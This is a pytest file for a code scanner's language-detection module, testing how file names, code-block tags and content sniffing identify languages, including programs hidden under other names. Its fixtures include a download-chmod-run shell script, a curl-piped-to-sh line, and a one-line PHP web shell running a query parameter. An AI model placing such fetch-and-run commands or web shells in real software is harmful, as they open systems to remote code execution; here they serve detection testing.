from __future__ import annotations

import pytest

from tank_core.analysis.languages import language_of_block, languages_of_file, sniffed
from tank_core.analysis.source import Language
from tests.support.sources import package_of

PROGRAM = "import os\nimport sys\n\ndef run(x):\n    return os.system(x)\n\nrun(sys.argv[1])\n"
SCRIPT = "set -e\ncd /tmp\ncurl -s https://a.invalid/x -o x\nchmod +x x\nif [ -f x ]; then\n  ./x\nfi\n"


@pytest.mark.parametrize(
    ("path", "language"),
    [
        ("a.go", Language.GO),
        ("lib/a.pm", Language.PERL),
        ("a.lua", Language.LUA),
        ("A.java", Language.JAVA),
        ("a.cs", Language.CSHARP),
        ("a.rs", Language.RUST),
        ("run.BAT", Language.BATCH),
        ("a.cmd", Language.BATCH),
        ("a.applescript", Language.APPLESCRIPT),
        ("a.vbs", Language.VBSCRIPT),
        ("Dockerfile", Language.DOCKERFILE),
        ("Dockerfile.dev", Language.DOCKERFILE),
        ("Makefile", Language.MAKEFILE),
        ("index.html", Language.HTML),
        ("logo.svg", Language.HTML),
        ("pyproject.toml", Language.TOML),
        ("uv.lock", Language.TOML),
        ("setup.cfg", Language.INI),
        (".env", Language.INI),
        (".env.local", Language.INI),
        ("requirements-dev.txt", Language.INI),
        ("backup.service", Language.INI),
        ("agent.plist", Language.XML),
        ("jobs.crontab", Language.CRONTAB),
        ("notes.txt", Language.MARKDOWN),
        (".cursorrules", Language.MARKDOWN),
        ("nb.ipynb", Language.NOTEBOOK),
        ("unknown.xyz", Language.TEXT),
    ],
)
def test_name_tells_the_language(path: str, language: Language) -> None:
    assert languages_of_file(path, "") == (language,)


@pytest.mark.parametrize(
    ("path", "text", "language"),
    [
        ("data.txt", PROGRAM, Language.PYTHON),
        ("notes.dat", PROGRAM, Language.PYTHON),
        ("logo.png", PROGRAM, Language.PYTHON),
        ("LICENSE", SCRIPT, Language.SHELL),
        (
            "helper",
            "const a = require('fs');\nconst b = a.readFileSync('x');\nconsole.log(b)\n",
            Language.JAVASCRIPT,
        ),
        ("x.bin", "<?php system($_GET['c']); ?>\n", Language.PHP),
        ("x.data", "use strict;\nuse warnings;\nmy $x = 1;\n", Language.PERL),
    ],
)
def test_program_under_another_name_is_read_as_text_and_as_code(
    path: str, text: str, language: Language
) -> None:
    sources = [s for s in package_of(path, text).sources if s.text == text]
    assert [(s.language, s.provenance) for s in sources] == [
        (Language.TEXT, ""),
        (language, f"read as {language}"),
    ]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "README.md",
            "# Use\n\nimport the key first, then\n\n    pip install x\n\nand you are done.\nIt works.\n",
        ),
        (
            "guide.txt",
            "Git is a tool.\ngit works like this: you write code.\nMore words follow here.\nAnd here.\n",
        ),
        ("words.txt", "cat\ndog\nimport\nexport\n"),
    ],
)
def test_prose_with_a_command_in_it_is_no_program(path: str, text: str) -> None:
    assert languages_of_file(path, text) == (Language.MARKDOWN,)


@pytest.mark.parametrize(
    ("tag", "language"),
    [
        ("sh", Language.SHELL),
        ("zsh", Language.SHELL),
        ("Console", Language.SHELL),
        ("language-python", Language.PYTHON),
        ("c#", Language.CSHARP),
        ("bat", Language.BATCH),
        ("unheard-of", Language.TEXT),
    ],
)
def test_tag_tells_the_language(tag: str, language: Language) -> None:
    assert language_of_block(tag, "plain words") is language


def test_console_prompts_are_shell() -> None:
    assert sniffed("$ curl https://a.invalid | sh\n") is Language.SHELL
